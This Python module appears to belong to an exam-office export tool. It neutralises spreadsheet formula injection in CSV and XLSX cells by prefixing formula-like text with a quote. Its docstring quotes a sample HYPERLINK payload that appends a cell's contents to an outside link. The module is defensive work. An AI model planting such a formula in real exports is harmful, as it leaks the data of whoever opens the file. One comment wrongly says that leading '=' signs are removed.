"""Cells written to CSV and XLSX files: text that a spreadsheet would run as a formula is neutralised.

A student named ``=HYPERLINK("http://…"&D2;"clic")`` must reach the exam office as a name, not as a live formula
(CSV/formula injection, OWASP). The OWASP rule is applied to every text cell that any export writes: a text
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote. Spreadsheets
then show it as text, and the quote survives a copy and paste or a re-export to CSV (an XLSX « string » type
alone would not: the exam office re-saving the file as CSV would bring the formula back to life).

Numbers (marks) are not text and are returned unchanged, so they stay numbers in XLSX.
"""

from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Spreadsheets skip leading spaces (and LibreOffice may trim them) before deciding that a cell is a formula.
_AFTER_SPACES = ("=", "+", "-", "@")


def is_formula_like(value: str) -> bool:
    return value.startswith(FORMULA_PREFIXES) or value.lstrip(" \u00a0\n").startswith(_AFTER_SPACES)


def safe_cell(value: Any) -> Any:
    """``value`` ready for a CSV or XLSX cell: formula-like text gets a leading ``'``; anything else unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def append_safe_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet; text cells are always written as text, never as formulas.

    ``safe_cell`` already removes every leading ``=``; forcing the data type as well means that no text can ever be
    stored as a formula, whatever openpyxl's guess.
    """
    row = safe_row(values)
    sheet.append(row)
    for cell, value in zip(sheet[sheet.max_row], row, strict=False):
        if isinstance(value, str):
            cell.data_type = "s"
